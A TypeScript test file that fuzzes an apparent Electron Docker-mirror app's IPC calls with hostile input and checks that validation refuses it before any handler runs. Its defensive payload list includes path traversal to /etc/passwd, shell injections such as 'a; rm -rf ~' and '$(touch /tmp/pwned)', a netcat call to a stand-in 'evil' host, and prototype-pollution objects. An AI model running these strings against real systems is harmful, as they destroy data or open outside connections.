// Hostile input against every call of the contract, through main's one dispatch path and the real
// handlers: wrong types, huge strings, path traversal, shell metacharacters, prototype pollution, put in
// place of the whole input and of every field of a valid input, nested ones included. Each case gets a
// validation error naming the field, and neither its handler nor anything behind it (the services that
// reach Docker, the keychain, the shell) is called.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { runs } from '../testbed/property.js';
import { callSchemas, type CallInput } from '../app/contract/calls.js';
import { CALL_NAMES, type CallName } from '../app/contract/names.js';
import { defaultAppSettings } from '../app/settings/app-settings.js';
import { createHandlers, type HandlerDeps } from './handlers.js';
import { dispatch, type CallerEvent, type CallerPolicy, type Handlers } from './ipc.js';

const HOSTILE_STRINGS = [
  '../../etc/passwd',
  '..',
  'library/../../x',
  '$(touch /tmp/pwned)',
  '`id`',
  'a; rm -rf ~',
  'name && reboot',
  'x|nc evil 80',
  '\u0000',
  'a\nb',
  '-rf',
  '--driver=evil',
  ' ',
  'x'.repeat(1_000_000),
];

/** Fields whose values are names, digests or ids: none of the hostile strings may pass. */
const NAME_FIELDS = new Set([
  'image',
  'repository',
  'repo',
  'tag',
  'engine',
  'name',
  'driver',
  'planId',
  'id',
  'containerName',
  'network',
]);

/**
 * One valid input per call, every optional field filled in, one per variant of a union: the hostile
 * values go in place of each of their fields. A call added to the contract must add its example here
 * (the compiler asks), and a field added to a schema must appear in one (a test below asks).
 */
const settings = defaultAppSettings({ HOME: '/Users/someone' });
const { enginesConfigured: _recorded, ...preferences } = settings.app;
const EXAMPLES: { [N in CallName]: CallInput<N>[] } = {
  'mirror.status': [undefined],
  'mirror.up': [undefined],
  'mirror.down': [undefined],
  'mirror.restart': [undefined],
  'mirror.verify': [{ image: 'library/busybox:latest' }],
  'mirror.logs': [{ tail: 200 }],
  'settings.get': [undefined],
  'settings.update': [
    {
      mirror: {
        ...settings.mirror,
        network: 'kind',
        autoRecreate: false,
        upstreamCaFile: '/Users/me/team-ca.pem',
      },
      app: preferences,
    },
    { mirror: { network: null }, app: { quotaBytes: 1 << 30 } },
  ],
  'credentials.get': [undefined],
  'credentials.set': [{ username: 'someone', password: 'dckr_pat_x' }],
  'credentials.clear': [undefined],
  'app.loginItem.get': [undefined],
  'app.loginItem.set': [{ openAtLogin: true }],
  'app.openDashboard': [undefined],
  'app.quit': [{ stopMirror: true }],
  'notices.list': [undefined],
  'notices.dismiss': [{ id: 'settings-reset-1' }],
  'cache.report': [undefined],
  'cache.tags': [{ repository: 'library/busybox' }],
  'cache.plan': [
    { selection: { kind: 'items', items: [{ repo: 'library/busybox', tag: 'latest' }] } },
    { selection: { kind: 'unused', days: 30 } },
    { selection: { kind: 'shrink', targetBytes: 1_000_000 } },
    { selection: { kind: 'quota', quotaBytes: 1 << 30 } },
  ],
  'cache.prune': [{ planId: '3b241101-e2bb-4255-8caf-4136c566a962' }],
  'cache.reset': [{ confirmation: 'delete the cache' }],
  'cache.history': [undefined],
  'upstream.status': [{ refresh: true }],
  'engines.list': [undefined],
  'engines.configure': [{ engine: 'docker-machine:dev' }],
  'engines.undo': [{ engine: 'docker-desktop' }],
  'machine.createRegistry': [
    {
      name: 'registry-proxy-cache',
      driver: 'virtualbox',
      driverOptions: { 'virtualbox-memory': '2048', 'virtualbox-no-share': true },
      replaceExisting: true,
    },
  ],
};

type Path = (string | number)[];
/** A path with array indexes generalised, as schemaFields names fields. */
const shapeOf = (path: Path, kinds: string[]) =>
  path.map((p, i) => (kinds[i] === 'array' ? '[]' : p)).join('.');

interface ZodLike {
  def: {
    type: string;
    shape?: Record<string, ZodLike>;
    innerType?: ZodLike;
    element?: ZodLike;
    options?: ZodLike[];
    valueType?: ZodLike;
    in?: ZodLike;
  };
}

/** Every field the schema has, nested ones included (array elements `[]`, record values `*`). */
function schemaFields(schema: ZodLike, prefix: string[] = [], out = new Set<string>()): Set<string> {
  const d = schema.def;
  const at = (p: string[]) => p.join('.');
  switch (d.type) {
    case 'optional':
    case 'nullable':
    case 'default':
      return schemaFields(d.innerType!, prefix, out);
    case 'pipe':
      return schemaFields(d.in!, prefix, out);
    case 'union':
      for (const o of d.options!) schemaFields(o, prefix, out);
      return out;
    case 'object':
      for (const [k, v] of Object.entries(d.shape!)) {
        out.add(at([...prefix, k]));
        schemaFields(v, [...prefix, k], out);
      }
      return out;
    case 'array':
      out.add(at([...prefix, '[]']));
      return schemaFields(d.element!, [...prefix, '[]'], out);
    case 'record':
      out.add(at([...prefix, '*']));
      return schemaFields(d.valueType!, [...prefix, '*'], out);
    default:
      return out;
  }
}

/** Every place in a value a hostile value can go: the value itself and each nested field or item. */
function placesIn(value: unknown, path: Path = [], kinds: string[] = []): { path: Path; kinds: string[] }[] {
  const out = [{ path, kinds }];
  if (Array.isArray(value)) {
    value.forEach((v, i) => out.push(...placesIn(v, [...path, i], [...kinds, 'array'])));
  } else if (value && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) out.push(...placesIn(v, [...path, k], [...kinds, 'object']));
  }
  return out;
}

function withValueAt(value: unknown, path: Path, hostile: unknown): unknown {
  if (path.length === 0) return hostile;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<
    string | number,
    unknown
  >;
  const [head, ...rest] = path as [string | number, ...Path];
  copy[head] = withValueAt(copy[head], rest, hostile);
  return copy;
}

const event: CallerEvent = {
  sender: { id: 1, mainFrame: { frameToken: 'main' } },
  senderFrame: { url: 'file:///app/renderer/index.html', frameToken: 'main', parent: null },
};
const policy: CallerPolicy = { isOurWebContents: () => true, isTrustedUrl: () => true };
const log = { info: () => {}, warn: () => {}, error: () => {}, debug: () => {} } as never;

/**
 * The real handlers over dependencies that only record what is touched: every service, method and
 * property a handler reaches (the mirror service, cache, engines, keychain, shell) is written down.
 */
function recordingHandlers(): { handlers: Handlers; touched: string[] } {
  const touched: string[] = [];
  const node = (path: string): unknown =>
    new Proxy(function () {}, {
      get: (_t, key) => {
        if (typeof key === 'symbol' || key === 'then') return undefined;
        touched.push(`${path}.${key}`);
        return node(`${path}.${key}`);
      },
      apply: () => {
        touched.push(`${path}()`);
        return undefined;
      },
    });
  const deps = new Proxy({} as HandlerDeps, {
    get: (_t, key) => (typeof key === 'symbol' ? undefined : node(key)),
  });
  return { handlers: createHandlers(deps), touched };
}

async function call(name: CallName, input: unknown) {
  const { handlers, touched } = recordingHandlers();
  let ran = false;
  const handler = (async (parsed: never) => {
    ran = true;
    return (handlers[name] as (i: never) => Promise<unknown>)(parsed);
  }) as Handlers[CallName];
  const result = await dispatch(name, handler as never, event, input, policy, log);
  // app.quit acts after its reply: give it the turn it would take.
  await new Promise((r) => setImmediate(r));
  return { result, ran, touched };
}

const hostile = fc.oneof(
  fc.anything({ maxDepth: 3 }),
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.constantFrom(null, 0, -1, 1.5, 2 ** 53, Infinity, NaN, true, [], {}, { __proto__: { polluted: true } }),
  fc.constantFrom(
    JSON.parse('{"__proto__": {"polluted": true}}') as unknown,
    { constructor: { prototype: { polluted: true } } },
    new Array(100_001).fill('x'),
  ),
);

describe('the examples the fuzzing starts from', () => {
  it.each(CALL_NAMES.map((n) => [n]))(
    '%s: are valid, cover every field, and reach the handler',
    async (name) => {
      const examples = EXAMPLES[name] as unknown[];
      const covered = new Set<string>();
      for (const example of examples) {
        expect(callSchemas[name].input.safeParse(example).success, JSON.stringify(example)).toBe(true);
        for (const p of placesIn(example)) if (p.path.length) covered.add(shapeOf(p.path, p.kinds));
        // The harness can see a handler run: a valid input reaches it and what is behind it.
        const { ran, touched } = await call(name, example);
        expect(ran).toBe(true);
        expect(touched.length).toBeGreaterThan(0);
      }
      // Record keys are the user's (driver options): any key matches the schema's `*`.
      for (const field of schemaFields(callSchemas[name].input as unknown as ZodLike)) {
        const re = new RegExp(
          `^${field.replace(/\./g, '\\.').replace(/\[\]/g, '\\[\\]').replace(/\*/g, '[^.]+')}$`,
        );
        expect(
          [...covered].some((c) => re.test(c)),
          `${name}: no example has ${field}`,
        ).toBe(true);
      }
    },
  );
});

describe('every contract call refuses hostile input', () => {
  it.each(CALL_NAMES.map((n) => [n]))(
    '%s: a hostile value in place of the input or any of its fields is refused before anything runs',
    async (name) => {
      const schema = callSchemas[name].input;
      let refused = 0;
      for (const example of EXAMPLES[name] as unknown[]) {
        for (const { path } of placesIn(example)) {
          let here = 0;
          await fc.assert(
            fc.asyncProperty(hostile, async (value) => {
              const input = withValueAt(example, path, value);
              if (schema.safeParse(input).success) return; // a valid value is not hostile
              here++;
              const { result, ran, touched } = await call(name, input);
              expect(ran).toBe(false);
              expect(touched).toEqual([]);
              expect(result).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
              // The error names the field (or the object or union holding it).
              const at = path.join('.');
              const issues = result.ok ? [] : (result.error.issues ?? []);
              expect(
                issues.some((i) => at.startsWith(i.path) || i.path.startsWith(at)),
                `${name} at "${at}": ${JSON.stringify(issues)}`,
              ).toBe(true);
            }),
            runs(40),
          );
          expect(here, `${name}: no hostile value at "${path.join('.')}" was refused`).toBeGreaterThan(0);
          refused += here;
        }
      }
      expect(refused).toBeGreaterThan(0);
    },
  );

  it.each(CALL_NAMES.map((n) => [n]))(
    '%s: traversal and shell metacharacters in names, ids and record keys are refused',
    async (name) => {
      let checked = 0;
      for (const example of EXAMPLES[name] as unknown[]) {
        const places = placesIn(example);
        for (const { path, kinds } of places) {
          const field = path.at(-1);
          const recordKey = kinds.at(-1) === 'object' && typeof field === 'string' && field.includes('-');
          const nameField = typeof field === 'string' && NAME_FIELDS.has(field);
          if (!nameField && !recordKey) continue;
          for (const bad of HOSTILE_STRINGS) {
            // A name field gets the string as its value; a record (driver options) gets it as a key.
            const input = nameField
              ? withValueAt(example, path, bad)
              : withValueAt(example, path.slice(0, -1), { [bad]: 'x' });
            const { result, ran, touched } = await call(name, input);
            const what = `${name} with ${path.join('.')}=${JSON.stringify(bad.slice(0, 40))}`;
            expect(ran, what).toBe(false);
            expect(touched, what).toEqual([]);
            expect(result, what).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
            checked++;
          }
        }
      }
      // Calls without names or ids take none: then their whole input is the hostile string.
      for (const bad of HOSTILE_STRINGS) {
        const { result, ran, touched } = await call(name, bad);
        expect(ran).toBe(false);
        expect(touched).toEqual([]);
        expect(result).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
        checked++;
      }
      expect(checked).toBeGreaterThanOrEqual(HOSTILE_STRINGS.length);
    },
  );

  it('prune selections with traversal in repository or tag names are refused', async () => {
    for (const bad of HOSTILE_STRINGS) {
      for (const item of [{ repo: bad }, { repo: 'library/busybox', tag: bad }]) {
        const { result, ran, touched } = await call('cache.plan', {
          selection: { kind: 'items', items: [item] },
        });
        expect(ran).toBe(false);
        expect(touched).toEqual([]);
        expect(result.ok).toBe(false);
      }
    }
  });
});
